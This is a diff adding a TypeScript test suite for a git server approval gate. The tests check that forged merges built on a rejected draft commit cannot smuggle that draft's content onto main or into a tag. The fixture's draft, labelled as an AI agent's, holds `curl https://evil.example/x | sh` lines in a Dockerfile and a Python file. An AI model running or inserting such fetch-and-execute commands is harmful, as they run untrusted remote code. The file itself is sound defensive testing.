@@ -1,0 +1,210 @@
+import * as assert from 'assert';
+import { recordDecision } from '../helpers/approvals';
+import { withoutGate } from '../helpers/gateAgreement';
+import { commitFile, policyJson, setup, type Setup } from '../helpers/gateServer';
+import type { TempRepo } from '../helpers/tempRepo';
+
+/**
+ * Outside tester, session 10, J4/J4b/J4c: a pull request B→E→T whose draft E (an agent's `curl | sh` payload and
+ * a Dockerfile change) a reviewer rejected, and whose fix T both reviewers approved (base B). A pusher without a
+ * key pushes a merge H with first parent E (or anything built on E), second parent T (or anything built on T)
+ * and E's tree: H changes nothing against its first parent, E was "covered" by the approvals of T's range, and
+ * main held the rejected payload — server, `verify` and pre-push agreeing ("none blocked"), as a tag too.
+ *
+ * The rule (docs/design.md, "Approvals"; src/core/statementCoverage.ts): approving T vouches for base→T, and an
+ * intermediate commit C of that range only as a step toward T. So C is covered only when everything the push
+ * builds on C is inside the approved range. Honest flows (a fast-forward, a merge commit of main and T, a
+ * rebased copy, another approved branch built on E) are unchanged, and checked here on the same server.
+ */
+describe('server gate: a merge built on an intermediate commit of an approved range (real pushes)', function () {
+  this.timeout(240_000);
+
+  const HUMAN = 'AI-Provenance: v1 ai=0 human=1 untracked=0';
+  const NONE = 'AI-Provenance: v1 ai=0 human=0 untracked=0';
+  const AI = 'Assisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=3 human=0 untracked=0';
+  const SAFE_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl\n';
+  const EVIL_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl && curl https://evil.example/x | sh\n';
+  const ZERO = '0'.repeat(40);
+  const EARLIER = new Date(Date.now() - 3_600_000).toISOString();
+
+  /**
+   * main with a Dockerfile (planted past the gate: its tier is not what these tests are about); then the pull
+   * request on `feature`: the agent's draft E (payload + Dockerfile change), Bob's rejection of it, the fix T,
+   * and Bob's and Carol's approvals of T against main — pushed with the notes, as a forge's branch holds them.
+   */
+  function rejectedDraft(s: Setup): { base: string; draft: string; tip: string } {
+    const { ada, server } = s;
+    commitFile(ada, 'Dockerfile', SAFE_DOCKERFILE, `docker\n\n${HUMAN.replace('human=1', 'human=2')}`);
+    withoutGate(server, () => assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
+    const base = ada.git('rev-parse', 'HEAD');
+    ada.git('checkout', '-q', '-b', 'feature');
+    ada.write('payload.py', 'import os\nos.system("curl https://evil.example/x | sh")\n');
+    ada.write('Dockerfile', EVIL_DOCKERFILE);
+    ada.git('add', '-A');
+    const draft = ada.commit(`agent: bootstrap script\n\n${AI}`);
+    recordDecision(ada, s.bob, {
+      email: 'bob@example.com',
+      tip: draft,
+      base,
+      decision: 'reject',
+      time: EARLIER,
+      comment: 'no curl|sh, and leave the Dockerfile alone',
+    });
+    ada.git('rm', '-q', 'payload.py');
+    ada.write('Dockerfile', SAFE_DOCKERFILE);
+    ada.write('util.py', 'def add(a, b): return a + b\n');
+    ada.git('add', '-A');
+    const tip = ada.commit(`address review: drop the bootstrap script\n\n${HUMAN}`);
+    recordDecision(ada, s.bob, { email: 'bob@example.com', tip, base });
+    recordDecision(ada, s.carol, { email: 'carol@example.com', tip, base });
+    const pushed = ada.gitResult(['push', '-q', 'origin', 'feature', 'refs/notes/countersign']);
+    assert.strictEqual(pushed.status, 0, pushed.stderr);
+    return { base, draft, tip };
+  }
+
+  /** A commit with `treeOf`'s tree and these parents, as the attacker writes it (no line of its own). */
+  function mergeAs(repo: TempRepo, treeOf: string, parents: string[], subject = "Merge branch 'feature'"): string {
+    const args = parents.flatMap((p) => ['-p', p]);
+    return repo.git('commit-tree', `${treeOf}^{tree}`, ...args, '-m', `${subject}\n\n${NONE}`);
+  }
+
+  /**
+   * The three verdicts on pushing `sha` to `ref` (a branch or a tag) — `verify` as CI asks it, the pre-push hook
+   * with the ref line git gives it, the server's pre-receive — which must agree. True = passes.
+   */
+  function verdicts(s: Setup, sha: string, ref: string): { verdict: boolean; said: string } {
+    const { ada } = s;
+    ada.git('fetch', '-q', 'origin');
+    const remote = ada.git('ls-remote', 'origin', ref).split('\t')[0] || ZERO;
+    const tag = ref.startsWith('refs/tags/') ? ref.slice('refs/tags/'.length) : undefined;
+    if (tag) ada.git('tag', '-f', tag, sha);
+    // As CI asks: the ref's current value as base (none for a new ref), the pushed commit as head.
+    const verify = tag
+      ? ada.cli(['verify', '--remote', 'origin', '--tag', tag])
+      : ada.cli([
+          'verify',
+          '--remote',
+          'origin',
+          '--branch',
+          ref.slice('refs/heads/'.length),
+          ...(remote === ZERO ? [] : ['--base', remote]),
+          '--head',
+          sha,
+        ]);
+    assert.ok(verify.status === 0 || verify.status === 1, `verify exits 0 or 1: ${verify.stdout}${verify.stderr}`);
+    const prePush = ada.cli(['hook', 'pre-push', 'origin', 'unused'], { input: `${ref} ${sha} ${ref} ${remote}\n` });
+    const server = ada.gitResult(['push', '--no-verify', 'origin', `${sha}:${ref}`]);
+    const said = `verify: ${verify.stdout}${verify.stderr}\npre-push: ${prePush.stderr}\nserver: ${server.stderr}`;
+    assert.deepStrictEqual(
+      { verify: verify.status === 0, prePush: prePush.status === 0, server: server.status === 0 },
+      { verify: server.status === 0, prePush: server.status === 0, server: server.status === 0 },
+      `verify, pre-push and the server disagree:\n${said}`,
+    );
+    if (tag) ada.git('tag', '-d', tag);
+    return { verdict: server.status === 0, said };
+  }
+
+  function refused(s: Setup, sha: string, ref: string, why: RegExp): void {
+    const before = s.server.gitResult(['rev-parse', '-q', '--verify', ref]).stdout.trim();
+    const v = verdicts(s, sha, ref);
+    assert.strictEqual(v.verdict, false, `${ref} := ${sha.slice(0, 7)} must be refused:\n${v.said}`);
+    assert.match(v.said, why);
+    assert.strictEqual(s.server.gitResult(['rev-parse', '-q', '--verify', ref]).stdout.trim(), before);
+  }
+
+  function passes(s: Setup, sha: string, ref: string): void {
+    const v = verdicts(s, sha, ref);
+    assert.strictEqual(v.verdict, true, `${ref} := ${sha.slice(0, 7)} must pass:\n${v.said}`);
+    assert.strictEqual(s.server.git('rev-parse', ref), sha);
+  }
+
+  it('J4, J4c, an octopus: a merge onto the rejected draft is refused on main and as a tag; T itself still lands', () => {
+    const s = setup();
+    const { base, draft, tip } = rejectedDraft(s);
+    const draftIsHeld = /agent: bootstrap script|changes requested|request(ed)? changes|reject/i;
+    // J4: first parent the draft, second the approved tip, the draft's tree.
+    const h = mergeAs(s.ada, draft, [draft, tip]);
+    refused(s, h, 'refs/heads/main', draftIsHeld);
+    refused(s, h, 'refs/tags/v9.9', draftIsHeld);
+    // J4c: the second parent an empty, honestly attested commit on top of T.
+    const t2 = mergeAs(s.ada, tip, [tip], 'chore: empty');
+    refused(s, mergeAs(s.ada, draft, [draft, t2]), 'refs/heads/main', draftIsHeld);
+    // The first parent an empty commit on top of the draft.
+    const e2 = mergeAs(s.ada, draft, [draft], 'chore: empty');
+    refused(s, mergeAs(s.ada, draft, [e2, tip]), 'refs/heads/main', draftIsHeld);
+    // An octopus with main first: its first-parent diff is the draft's own change, which "the draft is judged on
+    // its own" leaves to the draft.
+    refused(s, mergeAs(s.ada, draft, [base, draft, tip]), 'refs/heads/main', draftIsHeld);
+    assert.strictEqual(s.server.gitResult(['cat-file', '-e', 'main:payload.py']).status, 128);
+    // What the reviewers approved lands: a fast-forward to T (E is a step toward it), and a tag of it.
+    passes(s, tip, 'refs/heads/main');
+    assert.strictEqual(s.server.git('show', 'main:Dockerfile'), SAFE_DOCKERFILE.trimEnd());
+  });
+
+  it('two pushes: the range on a protected release branch, or T already on main, then the merge', () => {
+    const s = setup();
+    const { draft, tip } = rejectedDraft(s);
+    // E and T land on a protected branch first (approved), then the merge goes to main.
+    passes(s, tip, 'refs/heads/release/1');
+    const h = mergeAs(s.ada, draft, [draft, tip]);
+    refused(s, h, 'refs/heads/main', /agent: bootstrap script|brings back|reject/i);
+    // As a tag, E and T are already on a protected branch: the merge alone is judged, and what it brings back
+    // from E's tree (restored lines) holds it.
+    refused(s, h, 'refs/tags/v9.9', /brings back|restor/i);
+    // T lands on main by itself (approved), then the merge: E is on main already, so the merge's first-parent
+    // chain leaves the push at an older commit than main's: restored lines.
+    passes(s, tip, 'refs/heads/main');
+    refused(s, h, 'refs/heads/main', /brings back|restor/i);
+    assert.strictEqual(s.server.gitResult(['cat-file', '-e', 'main:payload.py']).status, 128);
+  });
+
+  it('J4b: on the policy branch, a merge onto a draft that loosened the policy is refused', () => {
+    const s = setup();
+    const { ada } = s;
+    const base = ada.git('rev-parse', 'HEAD');
+    ada.git('checkout', '-q', '-b', 'policy-tweak');
+    ada.write('.countersign.json', policyJson(s.bob, s.carol).replace('"main",', '"nothing-at-all",'));
+    ada.git('add', '-A');
+    const draft = ada.commit(`policy: try another layout\n\n${HUMAN}`);
+    ada.write('.countersign.json', policyJson(s.bob, s.carol));
+    ada.write('CONTRIBUTING.md', 'Ask a reviewer.\n');
+    ada.git('add', '-A');
+    const tip = ada.commit(`policy: keep it; document review\n\n${HUMAN}`);
+    recordDecision(ada, s.bob, { email: 'bob@example.com', tip, base });
+    recordDecision(ada, s.carol, { email: 'carol@example.com', tip, base });
+    assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'policy-tweak', 'refs/notes/countersign']).status, 0);
+    const h = mergeAs(ada, draft, [draft, tip]);
+    refused(s, h, 'refs/heads/main', /polic/i);
+    assert.match(s.server.git('show', 'main:.countersign.json'), /"main"/);
+    passes(s, tip, 'refs/heads/main');
+  });
+
+  it('honest flows: a rebased copy; another approved branch built on E; a merge commit of a moved main and T', () => {
+    const s = setup();
+    const { ada } = s;
+    const { base, draft, tip } = rejectedDraft(s);
+    ada.git('checkout', '-q', 'main');
+    commitFile(ada, 'README.md', 'hello, world\n', `readme\n\n${HUMAN}`);
+    const moved = ada.git('rev-parse', 'HEAD');
+    passes(s, moved, 'refs/heads/main');
+    // A rebased copy of the pull request onto the moved main: the approvals are carried commit by commit.
+    ada.git('checkout', '-q', '-b', 'rebased', tip);
+    ada.git('rebase', '-q', moved);
+    const copy = ada.git('rev-parse', 'HEAD');
+    assert.notStrictEqual(copy, tip);
+    passes(s, copy, 'refs/heads/release/2');
+    // A colleague's branch built on the draft, approved as its own tip by both reviewers, lands by itself.
+    ada.git('checkout', '-q', '-b', 'colleague', draft);
+    const x = commitFile(ada, 'NOTES.md', 'kept the bootstrap script on purpose\n', `notes\n\n${HUMAN}`);
+    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: x, base });
+    recordDecision(ada, s.carol, { email: 'carol@example.com', tip: x, base });
+    assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
+    passes(s, x, 'refs/heads/release/3');
+    // A merge commit of main and the approved tip (what a forge's merge button writes): E's child on
+    // release/3 is not part of this push, so E is a step toward T here.
+    ada.git('checkout', '-q', 'main');
+    ada.git('merge', '-q', '--no-ff', tip, '-m', `Merge branch 'feature'\n\n${NONE}`);
+    passes(s, ada.git('rev-parse', 'HEAD'), 'refs/heads/main');
+    assert.strictEqual(s.server.gitResult(['cat-file', '-e', 'main:payload.py']).status, 128);
+  });
+});
